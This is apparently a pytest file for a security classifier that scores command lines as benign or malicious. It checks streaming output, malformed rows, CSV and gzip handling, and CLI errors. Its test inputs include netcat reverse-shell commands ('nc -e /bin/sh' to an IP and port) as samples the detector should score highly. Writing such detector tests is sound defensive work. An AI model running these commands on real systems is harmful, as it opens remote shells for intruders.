"""Streaming scoring: one output row per input row; bad rows are flagged, never dropped or fatal."""

from __future__ import annotations

import gzip
import io
import json

import pytest
from typer.testing import CliRunner

from distilsec.bundle import update_manifest
from distilsec.cli.app import app
from distilsec.errors import DataError
from distilsec.serving.scoring import ScoringModel, score_stream
from distilsec.students import HashedLinearStudent


@pytest.fixture
def bundle(tmp_path, tiny_texts):
    texts, y, _ = tiny_texts
    path = HashedLinearStudent(n_features=2**12, epochs=3).fit(texts, y).save(tmp_path / "model")
    update_manifest(path, threshold=0.5, preprocess="none", positive="malicious", negative="benign")
    return path


def _score(bundle, tmp_path, content: bytes, name: str, **kw):
    src = tmp_path / name
    src.write_bytes(content)
    out = io.StringIO()
    stats = score_stream(ScoringModel(bundle), str(src), out, **kw)
    if kw.get("output_format") == "csv":
        return stats, out.getvalue()
    return stats, [json.loads(line) for line in out.getvalue().splitlines()]


def test_text_lines(bundle, tmp_path):
    stats, rows = _score(bundle, tmp_path, b"ls -la\nnc -e /bin/sh 10.0.0.2 9001\n", "in.txt")
    assert stats.n_scored == 2 and len(rows) == 2
    assert all(0.0 <= r["score"] <= 1.0 and r["label"] in ("benign", "malicious") for r in rows)
    assert rows[1]["score"] > rows[0]["score"]


def test_jsonl_with_bad_rows_stays_aligned(bundle, tmp_path):
    content = b'{"text": "ls", "id": "a"}\n{broken\n[1, 2]\n{"other": 1}\n{"url": "http://x.example/a.exe"}\n'
    stats, rows = _score(bundle, tmp_path, content, "in.jsonl")
    assert [r["row"] for r in rows] == [0, 1, 2, 3, 4]
    assert rows[0]["id"] == "a" and rows[0]["score"] is not None
    assert rows[1]["error"] == "malformed JSON" and rows[1]["score"] is None
    assert rows[2]["error"] and rows[3]["error"]
    assert rows[4]["score"] is not None
    assert stats.n_errors == 3 and stats.n_scored == 2


def test_csv_input_gz_and_csv_output(bundle, tmp_path):
    content = gzip.compress(b'id,text\n1,"ls -la, then more"\n2,"nc -e /bin/sh 1.2.3.4 1"\n')
    stats, text = _score(bundle, tmp_path, content, "in.csv.gz", output_format="csv")
    lines = text.strip().splitlines()
    assert lines[0] == "row,id,score,label,error" and len(lines) == 3 and stats.n_scored == 2


def test_csv_without_text_column_is_a_clear_error(bundle, tmp_path):
    with pytest.raises(DataError, match="columns"):
        _score(bundle, tmp_path, b"a,b\n1,2\n", "in.csv")


def test_garbage_huge_and_empty_inputs(bundle, tmp_path):
    stats, rows = _score(bundle, tmp_path, bytes(range(256)) * 40 + b"\n", "garbage.txt")
    assert stats.n_scored == len(rows) >= 1
    stats, rows = _score(bundle, tmp_path, b"A" * (10 * 1024 * 1024) + b"\nls\n", "huge.txt")
    assert stats.n_scored == 2 and stats.n_truncated == 1
    stats, rows = _score(bundle, tmp_path, b"", "empty.txt")
    assert stats.n_rows == 0 and rows == []


def test_cli_score_and_errors(bundle, tmp_path):
    src = tmp_path / "in.txt"
    src.write_text("ls\nwhoami\n")
    runner = CliRunner()
    res = runner.invoke(app, ["score", str(src), "--model", str(bundle)])
    assert res.exit_code == 0, res.output
    rows = [json.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert len(rows) == 2
    res = runner.invoke(app, ["score", str(src), "--model", str(tmp_path / "missing")])
    assert res.exit_code == 2 and "not found" in res.output
    res = runner.invoke(app, ["score", str(tmp_path / "nope.txt"), "--model", str(bundle)])
    assert res.exit_code == 2 and "file not found" in res.output
